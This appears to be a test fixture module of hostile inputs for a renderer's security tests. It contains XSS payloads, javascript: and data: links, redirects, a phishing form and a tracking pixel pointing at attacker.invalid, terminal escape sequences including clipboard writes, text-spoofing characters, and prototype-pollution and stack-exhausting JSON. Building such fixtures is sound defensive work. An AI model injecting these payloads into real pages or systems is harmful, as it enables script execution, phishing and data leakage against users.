/** Set by any script that content of a run manages to run; tests look for it. */
export const OWNED = '__owned';

const RUN = `window.${OWNED}=1`;

/** Markup and breaks out of places where text is put. */
export const MARKUP = [
  `<img src=x onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `"><svg onload="${RUN}">`,
  `<iframe srcdoc="<script>parent.${OWNED}=1</script>"></iframe>`,
  `<style>*{display:none!important}</style>`,
  `<base href="https://attacker.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">`,
  `<form action="https://attacker.invalid/"><button>Sign in</button></form>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `"])</script><script>${RUN}</script>`,
  '--></style></title></textarea><b>break out</b>',
];

/** Markdown that a renderer must not turn into something live. */
export const MARKDOWN = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[press](vbscript:msgbox(1))`,
  `![pixel](https://attacker.invalid/pixel.png?who=reader)`,
  `[ref]: javascript:${RUN} "x"\n\n[press][ref]`,
  `<a href="javascript:${RUN}">press</a>`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
];

const ESC = '\u001b';

/** Terminal control beyond colours: links, titles, cursor, clipboard. */
export const TERMINAL = [
  `${ESC}]8;;javascript:${RUN}${ESC}\\press${ESC}]8;;${ESC}\\`,
  `${ESC}]0;new title\u0007`,
  `${ESC}]52;c;Y29weQ==\u0007`,
  `${ESC}[2J${ESC}[1;1H${ESC}[?1049h`,
  `${ESC}[31mred${ESC}[0m ${ESC}[38;5;300mbad colour${ESC}[0m ${ESC}[999999999m`,
  `${ESC}P1;1|17/ab${ESC}\\`,
];

/** Characters that turn, hide or imitate text. */
export const DECEIVING = [
  'invoice\u202Egnp.exe',
  'a\u200Bb\u2060c\uFEFFd',
  'раураl.example',
  'line\u2028break\u2029here',
  '\u0007\u0008',
];

/** Every hostile text, one a line. */
export const ALL_TEXTS = [...MARKUP, ...MARKDOWN, ...TERMINAL, ...DECEIVING];

/** JSON whose keys aim at prototypes. `JSON.parse` keeps `__proto__` as an own key, a literal would not. */
export const PROTO_JSON = `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"plain":"kept"}`;

/** JSON so deep that a careless walk overflows the stack. */
export const DEEP_JSON = `${'{"a":'.repeat(150)}1${'}'.repeat(150)}`;
